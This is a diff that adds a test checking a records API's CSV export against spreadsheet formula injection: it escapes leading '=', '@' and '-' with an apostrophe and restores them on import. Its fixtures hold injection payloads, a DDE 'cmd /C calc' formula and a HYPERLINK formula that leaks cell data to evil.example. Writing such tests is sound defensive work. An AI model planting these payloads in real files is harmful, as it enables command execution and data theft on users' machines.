@@ -224,3 +224,39 @@ async def test_two_columns_mapped_to_one_field_are_refused_naming_both(api: Api)
     assert by_name == [{"path": "query.mapping", "message": "mapping: columns 'email' and 'EMAIL' both map to "
                         "'email' (by their names: a mapping names the one to read)"}]
     assert await _titles(api, tag) == []
+
+
+async def test_a_formula_is_exported_after_an_apostrophe_and_imports_back_as_it_was(api: Api) -> None:
+    tag = uuid.uuid4().hex[:6]
+    titles = [f"=cmd|' /C calc'!A0 {tag}", f"@SUM(A1) {tag}", f"-2+3 {tag}", f"'=1 {tag}", f"Plain {tag}"]
+    for n, title in enumerate(titles):
+        created = await api.http.post("/records", headers=api.as_("staff"), json={
+            "kind": "contact", "title": title, "email": f"f{n}{tag}@example.org", "phone": "+39 333 1234567"})
+        assert created.status_code == 201, created.text
+    name = f'=HYPERLINK("http://evil.example/?x="&A1;"Click") {tag}'
+    assert (await api.http.post("/cases", headers=api.as_("staff"), json={"name": name})).status_code == 201
+
+    exported = await api.http.get("/exports/contacts", headers=api.as_("staff"))
+    rows = [r for r in csv.reader(io.StringIO(exported.text.lstrip("\ufeff")), delimiter=";") if r[1].endswith(tag)]
+    assert sorted(r[1] for r in rows) == sorted([f"'=cmd|' /C calc'!A0 {tag}", f"'@SUM(A1) {tag}", f"'-2+3 {tag}",
+                                                 f"''=1 {tag}", f"Plain {tag}"])
+    assert {r[4] for r in rows} == {"+39 333 1234567"}  # a phone number as the office typed it
+    cases = (await api.http.get("/exports/cases", headers=api.as_("staff"))).text
+    assert [r[1] for r in csv.reader(io.StringIO(cases), delimiter=";") if r[1].endswith(tag)] == ["'" + name]
+
+    again = await _import(api, "contacts", exported.content, mode="valid_rows",
+                          mapping=json.dumps({"title": "title", "email": "email", "phone": "phone"}))
+    assert again["status"] == "done"
+    found = (await api.http.get("/records", headers=api.as_("admin"), params={"q": tag, "kind": "contact"})).json()
+    assert sorted(r["title"] for r in found) == sorted(titles * 2)
+    assert {r["phone"] for r in found} == {"+39 333 1234567"}
+
+    sent = (f"title;email;phone\r\n=1+1 {tag};not-an-email;'+39 055 123\r\n"
+            f"'=SUM(1) {tag};s{tag}@example.org;'+39 055 123\r\n")
+    job = await _import(api, "contacts", sent.encode(), mode="valid_rows")
+    assert job["rows_written"] == 1
+    [written] = (await api.http.get("/records", headers=api.as_("admin"), params={"q": f"SUM(1) {tag}"})).json()
+    assert (written["title"], written["phone"]) == (f"=SUM(1) {tag}", "+39 055 123")
+    rejected = (await api.http.get(job["rejected_url"], headers=api.as_("staff"))).text.lstrip("\ufeff")
+    [back] = list(csv.reader(io.StringIO(rejected), delimiter=";"))[1:]
+    assert back[:3] == [f"'=1+1 {tag}", "not-an-email", "+39 055 123"]
